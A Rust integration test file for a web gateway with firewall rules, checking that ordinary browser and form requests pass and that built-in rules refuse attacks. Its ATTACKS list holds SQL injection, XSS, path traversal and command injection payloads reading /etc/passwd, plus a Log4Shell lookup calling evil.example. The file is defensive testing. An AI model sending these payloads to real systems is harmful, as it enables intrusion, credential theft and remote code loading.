//! What honest clients get, and what the built-in rules refuse.

use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, ensure};
use gateway_tests::{CLEAN, Connection, Lab, curl, curl_tls, get};
use rustix::process::Signal;

/// Requests as browsers, shops, blogs and interfaces of programs make them: target, then body if it is a form's.
const BENIGN: &[(&str, &str)] = &[
    ("/", ""),
    ("/favicon.ico", ""),
    ("/products?category=garden+tools&page=2&sort=price_asc", ""),
    ("/search?q=O%27Reilly+books", ""),
    ("/search?q=caf%C3%A9+au+lait", ""),
    ("/search?q=select+a+gift+from+our+range", ""),
    ("/search?q=union+station+to+main+street", ""),
    ("/search?q=C%2B%2B+%26+Rust", ""),
    ("/blog/2026/11/how-to-drop-packets", ""),
    ("/api/v1/orders?since=2026-11-01T00%3A00%3A00Z&limit=50", ""),
    ("/login?next=%2Faccount%2Fsettings", ""),
    ("/redirect?to=https%3A%2F%2Fshop.example.org%2Fcart", ""),
    ("/map?lat=52.5200&lon=13.4050&zoom=12", ""),
    ("/assets/app.3f9c2b.js?v=1.4.2", ""),
    ("/profile", "name=Anna-Maria+O%27Neill&city=K%C3%B6ln&bio=I+like+cats+%26+dogs"),
    ("/comment", "text=Thanks%21+It+works+now+%3A-%29+%281+%2B+1+%3D+2%29"),
    ("/checkout", "amount=19.99&currency=EUR&note=Please+ring+twice%3B+we+are+on+the+2nd+floor"),
];

/// Attacks of the families that the built-in rules cover.
const ATTACKS: &[&str] = &[
    "/products?id=1%27%20OR%20%271%27%3D%271",
    "/products?id=1%20UNION%20SELECT%20username%2Cpassword%20FROM%20users",
    "/search?q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E",
    "/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E",
    "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd",
    "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
];

#[test]
fn benign_requests_pass_and_attacks_are_refused() -> Result<()> {
    let lab = Lab::new()?;
    // No bans: each attack must be refused on its own account.
    let _gateway = lab.start(&lab.settings().with("[bans]\ndefault_scenarios = false"))?;
    let mut wrong = Vec::new();
    for (target, form) in BENIGN {
        let answer =
            if form.is_empty() { get(&lab.clean, CLEAN.http(), target)? } else { post(&lab, target, form)? };
        if answer.status != 200 {
            wrong.push(format!("benign {target} {form} got {}", answer.status));
        }
    }
    let served = lab.origin.served();
    for target in ATTACKS {
        let answer = get(&lab.clean, CLEAN.http(), target)?;
        if answer.status != 403 {
            wrong.push(format!("attack {target} got {}", answer.status));
        }
    }
    ensure!(wrong.is_empty(), "{}", wrong.join("\n"));
    ensure!(lab.origin.served() == served, "an attack reached the origin");
    ensure!(served == BENIGN.len() as u64, "{served} of {} benign requests reached the origin", BENIGN.len());
    Ok(())
}

fn post(lab: &Lab, target: &str, form: &str) -> Result<gateway_tests::Response> {
    let mut connection = Connection::open(&lab.clean, CLEAN.http(), Duration::from_secs(2))?;
    connection.send(
        format!(
            "POST {target} HTTP/1.1\r\nhost: shop.example.org\r\nuser-agent: Mozilla/5.0\r\naccept: */*\r\n\
             content-type: application/x-www-form-urlencoded\r\ncontent-length: {}\r\n\r\n{form}",
            form.len()
        )
        .as_bytes(),
    )?;
    connection.receive()
}

#[test]
fn http_and_tls_serve_the_same() -> Result<()> {
    let lab = Lab::new()?;
    let _gateway = lab.start(&lab.settings())?;
    let answer = get(&lab.clean, CLEAN.http(), "/hello?to=all")?;
    ensure!(answer.status == 200 && answer.body == "GET /hello?to=all HTTP/1.1", "{answer:?}");
    for (arguments, expected) in
        [(["--http1.1", "--tlsv1.2"], "200 1.1"), (["--http2", "--tlsv1.3"], "200 2")]
    {
        let got = curl_tls(&lab.clean, CLEAN.https(), "/hello?to=all", &arguments)?;
        ensure!(got == expected, "curl {arguments:?} got {got}");
    }
    ensure!(lab.origin.served() == 3, "the origin served {}", lab.origin.served());
    // Plain HTTP to the TLS port is no request.
    ensure!(
        get(&lab.clean, CLEAN.https(), "/").map_or(true, |answer| answer.status >= 400),
        "plain HTTP on the TLS port"
    );
    Ok(())
}

#[test]
fn one_connection_carries_many_requests() -> Result<()> {
    let lab = Lab::new()?;
    let _gateway = lab.start(&lab.settings())?;
    let mut connection = Connection::open(&lab.clean, CLEAN.http(), Duration::from_secs(2))?;
    for number in 0..200 {
        let answer = connection.get(&format!("/item/{number}"))?;
        ensure!(
            answer.status == 200 && answer.body.contains(&format!("/item/{number} ")),
            "{number}: {answer:?}"
        );
    }
    Ok(())
}

#[test]
fn sigterm_lets_a_request_finish() -> Result<()> {
    let lab = Lab::new()?;
    let gateway = lab.start(&lab.settings())?;
    let mut connection = Connection::open(&lab.clean, CLEAN.http(), Duration::from_secs(2))?;
    // The head is in and the body is not: the request is under way.
    connection.send(
        b"POST /slow HTTP/1.1\r\nhost: shop.example.org\r\nuser-agent: Mozilla/5.0\r\naccept: */*\r\n\
        content-type: application/x-www-form-urlencoded\r\ncontent-length: 5\r\n\r\na=",
    )?;
    std::thread::sleep(Duration::from_millis(300));
    gateway.signal(Signal::TERM)?;
    std::thread::sleep(Duration::from_millis(300));
    connection.send(b"123")?;
    let answer = connection.receive().context("the request under way was cut off")?;
    ensure!(answer.status == 200, "the request under way got {}", answer.status);
    drop(connection);
    let start = Instant::now();
    let status = gateway.stop()?;
    ensure!(status.success(), "after SIGTERM the daemon ended with {status}");
    ensure!(
        start.elapsed() < Duration::from_secs(10),
        "with nothing left to do it took {:?} to end",
        start.elapsed()
    );
    Ok(())
}

#[test]
fn sighup_takes_a_good_configuration_and_keeps_the_old_over_a_bad_one() -> Result<()> {
    let lab = Lab::new()?;
    // No bans: the same client attacks again and again to see which configuration is in force.
    let settings = lab.settings().with("[bans]\ndefault_scenarios = false");
    let gateway = lab.start(&settings)?;
    let attack = || get(&lab.clean, CLEAN.http(), ATTACKS[0]).map(|answer| answer.status);
    ensure!(attack()? == 403, "the rules are not in force");

    std::fs::write(settings.file(), settings.clone().with("[waf]\nmode = \"detcet\"").toml())?;
    gateway.signal(Signal::HUP)?;
    std::thread::sleep(Duration::from_millis(500));
    ensure!(attack()? == 403, "a refused configuration took effect");
    ensure!(gateway.log().contains("detcet"), "the log does not name what was wrong:\n{}", gateway.log());

    std::fs::write(settings.file(), settings.clone().with("[waf]\nmode = \"detect\"").toml())?;
    gateway.signal(Signal::HUP)?;
    gateway_tests::wait_until("the new configuration", Duration::from_secs(5), || {
        (attack().ok()? == 200).then_some(())
    })
}

#[test]
fn health_and_metrics_are_on_the_control_listener_only() -> Result<()> {
    let lab = Lab::new()?;
    let gateway = lab.start(&lab.settings())?;
    for path in ["/healthz", "/readyz", "/metrics"] {
        let url = format!("http://127.0.0.1:9180{path}");
        let code = curl(&lab.gateway, &["--output", "/dev/null", "--write-out", "%{http_code}", &url])?;
        ensure!(code == "200", "{path} got {code}");
    }
    let page = gateway.metrics(&lab.gateway)?;
    ensure!(page.lines().any(|line| line.starts_with("gateway_")), "no metrics of ours:\n{page}");
    ensure!(
        get(&lab.clean, CLEAN.http(), "/metrics")?.body.starts_with("GET /metrics"),
        "/metrics is the origin's"
    );
    Ok(())
}
